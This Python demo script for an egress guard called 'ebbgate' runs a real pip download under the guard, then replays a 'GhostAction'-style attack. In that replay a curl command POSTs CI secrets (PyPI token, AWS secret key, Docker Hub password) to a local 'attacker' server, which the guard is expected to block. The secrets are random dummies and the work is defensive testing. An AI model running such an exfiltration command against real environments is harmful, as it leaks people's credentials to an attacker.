"""The main job on real input: a package download that succeeds, and a GhostAction replay that is cut.

The attacker's server is started here, on this machine's own address. What counts is what it receives: the replay first
runs without the guard, where the secrets must arrive, and then with it, where no byte of them may.
"""

from __future__ import annotations

import http.server
import os
import secrets
import shlex
import socket
import string
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
NAMES = ("PYPI_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "DOCKERHUB_PASSWORD")


class Attacker(http.server.BaseHTTPRequestHandler):
    """Keeps whatever is posted to it."""

    received: list[bytes] = []

    def do_POST(self) -> None:
        """Take the loot and say thanks."""
        Attacker.received.append(self.rfile.read(int(self.headers.get("content-length", "0"))))
        self.send_response(200)
        self.send_header("content-length", "0")
        self.end_headers()

    def log_message(self, *_args: object) -> None:
        """Say nothing."""


def own_address() -> str:
    """An address of this machine that is not loopback; no packet is sent to find it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # documentation range: connecting a datagram socket only looks up a route
        except OSError:
            sys.exit("demo: this machine has no network address besides loopback; the replay needs one")
        return str(probe.getsockname()[0])


def title(text: str) -> None:
    """A line that stands out."""
    print(f"\n{'─' * 100}\n{text}\n{'─' * 100}", flush=True)


def ebbgate(options: list[str], command: list[str], environ: dict[str, str]) -> int:
    """Run the guard as a user would, and show the command line."""
    print(f"$ ebbgate run {shlex.join(options)} -- {shlex.join(command)}\n", flush=True)
    line = [sys.executable, "-m", "ebbgate", "run", *options, "--", *command]
    code = subprocess.run(line, env=environ, check=False).returncode
    print(f"\nexit code: {code}", flush=True)
    return code


def installer(target: str) -> list[str]:
    """A real package installer with a cold cache."""
    for python in ("python3", "/usr/bin/python3"):
        if subprocess.run([python, "-m", "pip", "--version"], capture_output=True, check=False).returncode == 0:
            quiet = ["--disable-pip-version-check", "--no-cache-dir", "--progress-bar", "off"]
            return [python, "-m", "pip", "download", *quiet, "-d", target, "six", "flask"]
    uv = str(ROOT / ".tools" / "bin" / "uv")
    return [uv, "pip", "install", "--no-cache", "--python", sys.executable, "--target", target, "six", "flask"]


def main() -> int:
    """Four acts; the exit code says whether all went as they should."""
    random = {name: "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(40)) for name in NAMES}
    environ = {**os.environ, **random}
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place = f"{own_address()}:{server.server_port}"
    form = "&".join(f"{name}=${name}" for name in NAMES)
    replay = ["sh", "-c", f'curl -s -S -m 20 -X POST -d "{form}" http://{place}/collect']
    results: list[tuple[str, bool]] = []

    title("1. A real package download, guarded: six and flask from PyPI; only the preset `python` is allowed")
    with tempfile.TemporaryDirectory() as directory:
        code = ebbgate(["--use", "python"], installer(directory), environ)
        results.append(("the download ended with 0 and the files are there", code == 0 and any(Path(directory).iterdir())))

    title("2. GhostAction without a guard: one step posts the job's secrets to the attacker's server")
    print(f"$ {replay[2]}", flush=True)
    subprocess.run(replay, env=environ, check=False)
    results.append(("unguarded, the attacker received all three secrets", arrived(random) == 3))

    title("3. The same, guarded: the attacker's server is on nobody's allowlist")
    Attacker.received.clear()
    code = ebbgate(["--use", "python"], replay, environ)
    results.append(("guarded: exit code 91, and the attacker received nothing", code == 91 and not Attacker.received))

    title("4. The same through a host that is allowed, as attacks that use trusted services do")
    code = ebbgate(["--use", "python", "--allow", f"http://{place}"], replay, environ)
    results.append(("allowed host: exit code 91, and no secret arrived", code == 91 and arrived(random) == 0))

    title("What happened")
    for text, good in results:
        print(f"  {'ok  ' if good else 'FAIL'}  {text}")
    return 0 if all(good for _text, good in results) else 1


def arrived(values: dict[str, str]) -> int:
    """How many of the secrets the attacker has."""
    loot = b"\n".join(Attacker.received)
    return sum(value.encode() in loot for value in values.values())


if __name__ == "__main__":
    sys.exit(main())
